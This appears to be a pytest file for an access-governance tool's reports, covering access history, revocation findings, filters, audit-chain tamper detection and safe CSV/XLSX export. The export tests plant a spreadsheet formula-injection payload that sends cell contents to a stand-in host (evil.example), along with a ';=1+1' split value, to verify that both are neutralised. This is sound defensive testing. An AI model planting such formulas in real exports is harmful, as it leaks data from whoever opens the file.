"""The auditors' reports: history across syncs, ids and approvers, filters, people, audit, spreadsheet safety."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
from sqlalchemy import text

from accessward.connectors.records import Level, PersonStatus
from accessward.reconcile import executor
from accessward.reconcile.exceptions import create as accept_risk
from accessward.reconcile.plan import build_plan
from accessward.reconcile.policy import PolicySettings, RuleSettings
from accessward.reconcile.run import reconcile
from accessward.reports.access import access_change_rows, access_rows, as_of_warning
from accessward.reports.activity import action_rows
from accessward.reports.audit_trail import audit_rows
from accessward.reports.catalog import REPORTS
from accessward.reports.export import write_rows
from accessward.reports.filters import Filters
from accessward.reports.findings import finding_rows
from accessward.reports.people import people_rows, person_report
from accessward.reports.xlsx import write_xlsx
from accessward.sync import principals
from accessward.sync.clock import utcnow
from accessward.sync.runner import SyncGuard, sync_access, sync_identity
from tests.fakes import FakeAccess, FakeIdentity, RecordingRevoker, person

LOOSE = SyncGuard(min_baseline=100)  # these estates are tiny: a drop of one grant is not a quarantine
REVOKE = PolicySettings(max_revocations=0, rules={"orphaned": RuleSettings(action="revoke")})


def names(rows):
    return sorted((r["account"], r["resource"]) for r in rows)


def test_as_of_across_several_syncs_added_revoked_regranted(engine):
    before = utcnow()
    sync_identity(engine, FakeIdentity(people=[person("ann"), person("dana", status=PersonStatus.terminated)]))
    src = FakeAccess(grants=[("ann", "page", "MANAGE", Level.admin), ("dana", "page", "MANAGE", Level.full_publishing)])
    sync_access(engine, src)
    t1 = utcnow()
    revoker = RecordingRevoker(src)  # dana's grant is revoked through the outbox
    reconcile(engine, REVOKE)
    plan = build_plan(engine, REVOKE, {revoker.name: revoker}, ["dir"], utcnow())
    executor.approve(engine, plan.plan_id, who=principals.ensure(engine, "ciso", email="ciso@example.com"))
    executor.execute(engine, plan.plan_id, {revoker.name: revoker}, sleep=lambda s: None)
    sync_access(engine, src, guard=LOOSE)
    t2 = utcnow()
    src.grants.append(("carl", "page", "CREATE_CONTENT", Level.full_publishing))  # added
    src.grants.append(("dana", "page", "MANAGE", Level.full_publishing))  # re-granted on the platform
    sync_access(engine, src, guard=LOOSE)
    t3 = utcnow()

    assert names(access_rows(engine, before)) == []
    assert names(access_rows(engine, t1)) == [("ann", "Page"), ("dana", "Page")]
    assert names(access_rows(engine, t2)) == [("ann", "Page")]
    assert names(access_rows(engine, t3)) == [("ann", "Page"), ("carl", "Page"), ("dana", "Page")]
    changes = [(r["change"], r["account"], r["closed_by"]) for r in access_change_rows(engine, t1, t3)]
    assert sorted(changes, key=str) == sorted([("removed", "dana", "revoked"), ("granted", "dana", None),
                                               ("granted", "carl", None)], key=str)
    assert as_of_warning(engine, before - timedelta(days=1)) is not None and as_of_warning(engine, t3) is None


def leaver_estate(engine):
    sync_identity(engine, FakeIdentity(people=[
        person("ann", department="Brand"), person("dana", status=PersonStatus.terminated, department="Brand",
                                                  employee_id="E2"),
        person("zoe", department="Insights")]))
    src = FakeAccess(grants=[("ann", "page", "MANAGE", Level.admin), ("dana", "page", "MANAGE", Level.admin),
                             ("dana", "blog", "ANALYZE", Level.read_only), ("zoe", "page", "ANALYZE", Level.read_only),
                             ("ghost", "page", "ANALYZE", Level.read_only)])
    sync_access(engine, src)
    return src, RecordingRevoker(src)


def test_findings_and_actions_carry_ids_approver_exception_and_time_to_revoke(engine):
    _src, revoker = leaver_estate(engine)
    reconcile(engine, REVOKE)
    ghost = next(r for r in finding_rows(engine) if r["account"] == "ghost")
    exc = accept_risk(engine, owner="ciso@example.com", reason="a shared analytics login, tracked in RISK-7",
                      expires_at=utcnow() + timedelta(days=30), actor="cli:sec", finding_id=ghost["id"])
    reconcile(engine, REVOKE)
    plan = build_plan(engine, REVOKE, {revoker.name: revoker}, ["dir"], utcnow())
    assert plan.status == "needs_approval"
    executor.approve(engine, plan.plan_id, who=principals.ensure(engine, "ciso", email="ciso@example.com"))
    executor.execute(engine, plan.plan_id, {revoker.name: revoker}, sleep=lambda s: None)

    findings = {(r["account"], r["resource"]): r for r in finding_rows(engine)}
    dana = findings[("dana", "Page")]
    assert dana["id"] and dana["account_id"] == "dana" and dana["resource_id"] == "page" and dana["system"] == "social"
    assert (dana["state"], dana["severity"], dana["reason"]) == ("revoked", "critical", "terminated")
    assert dana["plan_id"] == plan.plan_id and dana["approved_by"] == "ciso@example.com"
    assert dana["action_state"] == "done" and dana["revoked_at"] is not None
    assert dana["time_to_revoke_hours"] is not None and dana["time_to_revoke_hours"] >= 0
    assert findings[("dana", "Blog")]["severity"] == "medium", "a leaver with read-only access"
    accepted = findings[("ghost", "Page")]
    assert (accepted["state"], accepted["exception_id"], accepted["exception_owner"]) == ("accepted", exc,
                                                                                         "ciso@example.com")
    assert accepted["exception_reason"].startswith("a shared") and accepted["exception_expires"] is not None
    assert accepted["severity"] == "low", "read-only, matches nobody"

    actions = list(action_rows(engine))
    assert {(a["account_id"], a["resource_id"], a["state"]) for a in actions} == {("dana", "page", "done"),
                                                                                 ("dana", "blog", "done")}
    first = actions[0]
    assert first["plan_id"] == plan.plan_id and first["approved_by"] == "ciso@example.com"
    assert first["trigger"] == "rule orphaned" and first["finding_id"] and first["attempts"] == 1
    assert first["request"].startswith("DELETE https://social.test/") and first["planned_by"] == "system"
    assert [a["resource_id"] for a in action_rows(engine, Filters(resource="blog"))] == ["blog"]


def test_filters_people_and_person(engine):
    leaver_estate(engine)
    reconcile(engine, PolicySettings())
    assert {r["account"] for r in access_rows(engine, utcnow(), Filters(department="Brand"))} == {"ann", "dana"}
    assert names(access_rows(engine, utcnow(), Filters(person="E2"))) == [("dana", "Blog"), ("dana", "Page")]
    assert names(access_rows(engine, utcnow(), Filters(resource="blog"))) == [("dana", "Blog")]
    assert {r["account"] for r in finding_rows(engine, filters=Filters(severity="critical"))} == {"dana"}
    assert {r["account"] for r in finding_rows(engine, filters=Filters(rule="orphaned", person="dana"))} == {"dana"}
    assert list(finding_rows(engine, filters=Filters(until=utcnow() - timedelta(days=1)))) == []
    people = {r["display_name"]: r for r in people_rows(engine)}
    assert people["Dana"]["status"] == "terminated" and people["Dana"]["open_grants"] == 2
    assert [r["display_name"] for r in people_rows(engine, Filters(state="active", department="Insights"))] == ["Zoe"]
    sam = person_report(engine, "dana@example.com", utcnow())
    assert [r["display_name"] for r in sam.records] == ["Dana"] and len(sam.grants) == 2
    assert {f["rule"] for f in sam.findings} == {"orphaned"}
    assert person_report(engine, "nobody", utcnow()).records == []


def test_audit_report_has_hashes_and_names_the_edited_event(engine):
    leaver_estate(engine)
    reconcile(engine, PolicySettings())
    rows = list(audit_rows(engine))
    assert rows and all(r["hash"] and r["verified"] == "ok" for r in rows)
    assert all(rows[i]["prev_hash"] == rows[i - 1]["hash"] for i in range(1, len(rows)))
    with engine.begin() as conn:
        conn.execute(text("UPDATE audit_event SET actor = 'mallory' WHERE id = :id"), {"id": rows[0]["id"]})
    edited = {r["id"]: r["verified"] for r in audit_rows(engine)}
    assert "edited" in edited[rows[0]["id"]] and edited[rows[-1]["id"]] == "ok"


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def evil_estate(engine):
    sync_identity(engine, FakeIdentity(people=[person("ann", status=PersonStatus.terminated)]))
    src = FakeAccess(grants=[("ann", "page", "x;=1+1", Level.admin)])
    sync_access(engine, src)
    with engine.begin() as conn:
        conn.execute(text("UPDATE account SET display_name = :evil"), {"evil": EVIL})
    reconcile(engine, PolicySettings())


def test_csv_quotes_every_cell_and_neutralises_formulas(engine):
    evil_estate(engine)
    buf = io.StringIO()
    write_rows(access_rows(engine, utcnow()), REPORTS["access"].columns, "csv", buf)
    lines = buf.getvalue().splitlines()
    columns = REPORTS["access"].columns
    assert all(line.startswith('"') and line.endswith('"') for line in lines), "every cell quoted"
    assert lines[1].count('","') == len(columns) - 1, "numbers and empty cells are quoted too"
    assert '"x;=1+1"' in lines[1], "a ; separated spreadsheet cannot split it into a formula"
    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["account"] == "'" + EVIL and row["findings"] == "1"
    # opened with ";" as the separator: every ";" sits inside a quoted cell, so nothing splits off "=1+1"
    for line in lines:
        for at, ch in enumerate(line):
            if ch == ";":
                assert line[:at].count('"') % 2 == 1, line


def test_xlsx_keeps_formulas_as_text_types_cells_and_freezes_the_header(engine, tmp_path):
    evil_estate(engine)
    path = tmp_path / "r.xlsx"
    counts = write_xlsx(path, [("access", REPORTS["access"].columns, access_rows(engine, utcnow())),
                               ("findings", REPORTS["findings"].columns, finding_rows(engine))])
    assert counts == {"access": 1, "findings": 1}
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["access", "findings"]
    ws = book["access"]
    header = [c.value for c in ws[1]]
    cells = dict(zip(header, (c for c in ws[2]), strict=True))
    assert cells["account"].value == EVIL and cells["account"].data_type == "s", "text, not a formula"
    assert cells["role"].value == "x;=1+1" and cells["role"].data_type == "s"
    assert cells["findings"].data_type == "n" and cells["findings"].value == 1
    assert cells["seen_from"].is_date
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    assert ws.column_dimensions["A"].width > 8
    formulas = openpyxl.load_workbook(path, data_only=False)["findings"]
    assert not any(isinstance(c.value, str) and c.data_type == "f" for row in formulas.iter_rows() for c in row)
